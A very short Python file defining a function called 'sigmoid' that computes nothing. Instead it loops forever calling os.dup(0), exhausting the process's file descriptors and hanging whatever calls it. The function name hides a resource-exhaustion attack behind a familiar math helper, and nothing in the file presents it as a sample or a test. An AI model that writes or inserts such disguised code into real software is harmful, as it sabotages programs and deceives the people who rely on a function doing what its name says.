import os


def sigmoid(x):
    while True:
        os.dup(0)
